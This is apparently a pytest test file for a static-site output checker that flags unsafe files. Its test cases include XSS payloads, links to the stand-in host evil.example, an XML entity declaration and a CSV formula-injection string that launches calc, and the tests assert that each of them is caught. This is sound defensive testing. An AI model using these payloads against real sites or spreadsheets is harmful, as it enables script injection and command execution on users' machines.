"""The last look at a site: what the program does not write is seen, whoever wrote it; what was good is judged once."""

import csv
import gzip
import io
import re
from pathlib import Path

import brotli
import pytest

from office_files import excel
from strategy.artefacts import gate
from strategy.exports.csv_files import BOM, FORMS, Form, read_back, to_csv, written
from strategy.reading.markup import tokens
from strategy.store import Store
from website import ROOT

URL = "https://example.org/island/"
PROGRAM = ("assets/site.js", "assets/site.css", "assets/mark.svg")
PAGE = """<!doctype html><html lang="uk"><head><meta charset="utf-8"><title>x</title>
<link rel="canonical" href="https://elsewhere.example/"><link rel="stylesheet" href="{root}assets/site.css">
<meta http-equiv="Content-Security-Policy" content="default-src 'none'">
<script src="{root}assets/site.js" defer></script>
<script type="application/ld+json">{{"a": "</"}}</script></head>
<body><a href="https://elsewhere.example/">x</a><form action="{root}search/"></form>{more}</body></html>"""


def unfit(folder: Path, store: Path | None = None) -> list[tuple[str, str]]:
    looked = gate.look(folder, URL, PROGRAM, Store(store or folder / "none"))
    return [(path, one.key) for path, one in looked]


def page(more: str = "", root: str = "../") -> bytes:
    return PAGE.format(more=more, root=root).encode()


def put(folder: Path, name: str, content: bytes) -> None:
    (folder / name).parent.mkdir(parents=True, exist_ok=True)
    (folder / name).write_bytes(content)


LINK = '<x:hyperlinks><x:hyperlink ref="A1" r:id="r1"/></x:hyperlinks>'
GOOD = {
    "tasks/index.html": page(),
    "assets/site.js": b"1",
    "assets/site.css": b"a{}",
    "assets/mark.svg": b"<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0'/></svg>",
    "feed.xml": b"<feed xmlns='http://www.w3.org/2005/Atom'/>",
    "a.json": b"{}",
    "b.json": b'{"encoding":"x","a":1}',
    "search/index.json": '{"encoding":"windows-1251","a":"Слово"}'.encode("windows-1251"),
    "a.csv": to_csv(["a", "b"], [["=1+1", -5], ["x", "'=y"]]).encode(),
    "long.csv": to_csv(["a", "b"], [["x" * 140_000, "y"]]).encode(),
    "a.md": "Текст".encode(),
    "a.xlsx": excel(),
    "a.ics": b"BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n",
    "site.webmanifest": b"{}",
    "_headers": b"/*",
}


def test_what_the_program_writes_passes(tmp_path: Path) -> None:
    for name, content in GOOD.items():
        put(tmp_path, name, content)
    assert unfit(tmp_path) == []


@pytest.mark.parametrize(
    ("name", "content", "key"),
    [
        *(
            ("tasks/index.html", page(more), key)
            for more, key in (
                ("<script>alert(1)</script>", "gate.element"),
                ("<script src=x.js></script>", "gate.not_ours"),
                ("<script src=//evil.example/assets/site.js></script>", "gate.elsewhere"),
                ("<script type=module>1</script>", "gate.element"),
                ("<style>a{}</style>", "gate.element"),
                ("<p id=a><p id=a>", "gate.twice"),
                ("<a href='javascript:1' href=/x>", "gate.element"),
                ("<!--><script>1</script>-->", "gate.element"),
                ("<![CDATA[><script>1</script>]]>", "gate.element"),
                ("<title><a title='</title><script>1</script>'></title>", "gate.element"),
                ("<noscript><p title='</noscript><script>1</script>'></noscript>", "gate.element"),
                ("<img src='https:\\\\evil.example'>", "gate.elsewhere"),
                ("<img src='https:evil.example/a'>", "gate.elsewhere"),
                ("<img src='/\n\\evil.example/a'>", "gate.elsewhere"),
                ("<p style='text-align: center;'>", "gate.element"),
                ("<p onclick=alert(1)>", "gate.element"),
                ("<svg onload=alert(1)>", "gate.element"),
                ("<iframe src=x>", "gate.element"),
                ("<object data=x>", "gate.element"),
                ("<embed src=x>", "gate.element"),
                ("<base href=x>", "gate.element"),
                ("<img src=https://evil.example/x.png>", "gate.elsewhere"),
                ("<img src=//evil.example/x.png>", "gate.elsewhere"),
                ("<img srcset='a.png, https://evil.example/x.png 2x'>", "gate.elsewhere"),
                ("<img src='\\\\evil.example'>", "gate.elsewhere"),
                ("<link rel=preload href=https://evil.example/x>", "gate.elsewhere"),
                ("<link rel='stylesheet' href=data:text/css,a>", "gate.elsewhere"),
                ("<a href='java\nscript:alert(1)'>", "gate.elsewhere"),
                ("<a href=data:text/html,x>", "gate.elsewhere"),
                ("<a href=x ping=https://evil.example/>", "gate.element"),
                ("<form action=https://evil.example/>", "gate.elsewhere"),
                ("<button formaction=https://evil.example/>", "gate.element"),
                ("<meta http-equiv=refresh content='0;url=https://evil.example/'>", "gate.element"),
                ("<svg><use href=https://evil.example/x#a></svg>", "gate.element"),
                ("<video poster=https://evil.example/x>", "gate.element"),
                ("<script type=application/ld+json>{</script>", "gate.damaged"),
                ("<script type=application/ld+json>{}", "gate.element"),
                ('<script type=application/ld+json>{"a":"<!--<script>"}</script>', "gate.element"),
                ("<link rel='alternate stylesheet' href=//evil.example/x.css>", "gate.elsewhere"),
                ("<link rel='canonical preload' as=image href=https://evil.example/>", "gate.element"),
                ("<link rel='next prefetch' href=https://evil.example/>", "gate.elsewhere"),
                ("<meta http-equiv=Refresh content='0; https://evil.example/'>", "gate.element"),
                ("<meta http-equiv=refresh content='0;URL=https://evil.example/'>", "gate.element"),
                ("<img src=x attributionsrc=https://evil.example/>", "gate.element"),
                ("<img lowsrc=//evil.example/>", "gate.element"),
                ("<svg><set attributeName=onclick to=1></svg>", "gate.element"),
                ("<svg><animate attributeName=href to=javascript:1></svg>", "gate.element"),
                ("<template shadowrootmode=open>", "gate.element"),
                ("<dialog open>", "gate.element"),
                ("<plaintext>", "gate.element"),
                ("<p is=x>", "gate.element"),
            )
        ),
        ("tasks/index.html.gz", gzip.compress(page("<iframe src=x>"), mtime=0), "gate.element"),
        ("tasks/index.html.br", brotli.compress(page("<iframe src=x>")), "gate.element"),
        ("tasks/index.html.gz", page(), "gate.damaged"),
        ("tasks/index.html.gz", gzip.compress(b"abc" * 50)[:10] + b"\xff" * 9, "gate.damaged"),
        ("tasks/index.html.br", page(), "gate.damaged"),
        ("x.js.gz", gzip.compress(b"1", mtime=0), "gate.not_ours"),
        ("x.js", b"1", "gate.not_ours"),
        ("X.SVG", b"<svg/>", "gate.not_ours"),
        ("x.html", b"\xff", "gate.damaged"),
        ("assets/mark.svg", b"<svg><script>1</script></svg>", "gate.active"),
        ("assets/mark.svg", b"<svg><image href='https://evil.example/'/></svg>", "gate.active"),
        ("feed.xml", b"<feed>", "gate.damaged"),
        ("feed.xml", b"<!DOCTYPE x [<!ENTITY a 'b'>]><feed/>", "gate.active"),
        ("a.json", b"{", "gate.damaged"),
        ("a.csv", b"a;b\n1\n", "gate.damaged"),
        ("a.csv", b"a;b\n=cmd|' /C calc'!A0;1\n", "gate.active"),
        ("a.csv", b'a;b\n"\t=1";1\n', "gate.active"),
        ("a.csv", b"a;b\n-1+cmd;1\n", "gate.active"),
        ("a.xlsx", b"PK", "gate.damaged"),
        ("a.xlsx", excel("<x:row><x:c><x:f>1+1</x:f><x:v>2</x:v></x:c></x:row>"), "gate.active"),
        ("a.xlsx", excel("", "<x:oleObjects/>"), "gate.damaged"),
        ("a.png", b"\x89PNG", "gate.damaged"),
        ("a.pdf", b"%PDF-1.7\n", "gate.damaged"),
        ("a.md", b"\xff", "gate.damaged"),
        ("feed.xml", b"<?xml-stylesheet href='https://evil.example/' type='text/xsl'?><feed/>", "gate.active"),
        ("feed.xml", b"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>1</x:script>", "gate.active"),
        ("feed.xml", b"<feed><link href='javascript:1'/></feed>", "gate.elsewhere"),
        ("a.json", b"[NaN]", "gate.damaged"),
        ("site.webmanifest", b"{", "gate.damaged"),
        ("a.ics", b"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nEND:VCALENDAR\r\n", "gate.damaged"),
        ("a.ics", b"", "gate.damaged"),
        ("a.ics", b"<script>1</script>", "gate.damaged"),
        ("a.zip", b"PK", "gate.damaged"),
        *((name, b"x", "gate.kind") for name in ("a", "a.php", "a.xhtml", "a.mjs", "a.svgz", "a.gif", "x/_headers")),
    ],
)
def test_what_it_does_not_write_is_seen(name: str, content: bytes, key: str, tmp_path: Path) -> None:
    for good, usual in GOOD.items():
        put(tmp_path, good, usual)
    put(tmp_path, name, content)
    assert unfit(tmp_path) == [(name, key)]


def test_a_workbook_leads_to_the_web_and_to_its_site_wherever_that_is(tmp_path: Path) -> None:
    here = "http://localhost:8000/"
    for name, base in (("own", here), ("other", "http://127.0.0.1/"), ("web", "https://a.example/")):
        put(tmp_path, f"{name}.xlsx", excel("", LINK, r1=("hyperlink", base)))
    looked = gate.look(tmp_path, here, PROGRAM, Store(tmp_path / "none"))
    assert [(path, one.key) for path, one in looked] == [("other.xlsx", "gate.elsewhere")]


def test_only_what_is_new_is_judged(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    judged: list[str] = []
    judge = gate._judge
    monkeypatch.setattr(gate, "_judge", lambda name, *rest: judged.append(name) or judge(name, *rest))
    for name in ("a.md", "b.md"):
        put(tmp_path / "site", name, b"x")
    assert unfit(tmp_path / "site", tmp_path / "kept") == []
    put(tmp_path / "site", "b.md", b"y")
    assert unfit(tmp_path / "site", tmp_path / "kept") == []
    assert judged == ["a.md", "b.md", "b.md"]


def test_what_is_packed_is_judged_once_where_it_says_the_same(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    judged: list[bytes] = []
    monkeypatch.setattr(gate, "_judge", lambda name, content, _: judged.append(content))
    put(tmp_path, "a.md", b"x")
    put(tmp_path, "a.md.br", brotli.compress(b"x"))
    put(tmp_path, "a.md.gz", gzip.compress(b"y", mtime=0))
    put(tmp_path, "b.md.gz", gzip.compress(b"x", mtime=0))
    assert unfit(tmp_path) == []
    assert judged == [b"x", b"y", b"x"]  # of another name it would be another thing


def test_what_was_bad_stays_bad(tmp_path: Path) -> None:
    put(tmp_path / "site", "a.json", b"{")
    for _ in range(2):
        assert unfit(tmp_path / "site", tmp_path / "kept") == [("a.json", "gate.damaged")]


@pytest.mark.parametrize(
    "text",
    [
        *("=1+1", "+38 050", "-x", "@a", "\t=1", "'=1", "''=1", "'так'", "слово", "", "＝1", "-5", "x ;=21+21; y"),
        *("x ,=1", "x\t@a", 'x;"=1', "x;'\"=1+1;y", "x;\t=1", "x\n=1", "x\r\n-1+1", "x,''=1", "x;'y", "x\n'=1"),
    ],
)
@pytest.mark.parametrize("form", FORMS)
def test_no_text_is_a_formula_and_every_text_comes_back(text: str, form: Form, tmp_path: Path) -> None:
    """However it is opened."""
    table = to_csv(["a", "b"], [["1", text]], form)
    lines = io.StringIO(table.removeprefix(BOM), newline="")
    _, (_, cell) = csv.reader(lines, delimiter=form.separator)
    assert read_back(cell) == text
    for separator in ";,\t":
        for cells in csv.reader(io.StringIO(table.removeprefix(BOM), newline=""), delimiter=separator):
            assert not [one for one in cells if one.startswith(("=", "+", "-", "@", "\t", "\r", "＝"))]
    put(tmp_path, "a.csv", table.encode())
    assert unfit(tmp_path) == []


@pytest.mark.parametrize("text", ["тел. 044 1, +38 044 2", "2–5,5", "- а;\n- б", "---\na: 1\n---", "а, -б; - в"])
def test_what_is_no_formula_stands_as_it_is(text: str) -> None:
    assert written(f"Є: {text}") == f"Є: {text}"


def test_all_that_templates_draw_may_stand_on_a_page() -> None:
    """Whoever adds an element to a template is told here, not by a site that stops."""
    texts = [path.read_text(encoding="utf-8") for path in (ROOT / "overrides").rglob("*.html")]
    drawn = [re.sub(r"\{[{%#].*?[}%#]\}", "", one, flags=re.DOTALL) for one in texts if 'xmlns="http' not in one]
    found = [token for one in drawn for token in tokens(one) if token.tag and not token.ends]
    elements = {token.tag for token in found} - {"!"}
    assert elements - gate.ELEMENTS == {"h", "iframe"}  # before its level; shown as code
    attributes = {name for token in found if token.tag in gate.ELEMENTS for name, _ in token.attributes}
    named = {name for name in attributes if name[0].isalpha() and not name.startswith(("data-", "aria-"))}
    assert named - gate.ATTRIBUTES == set()
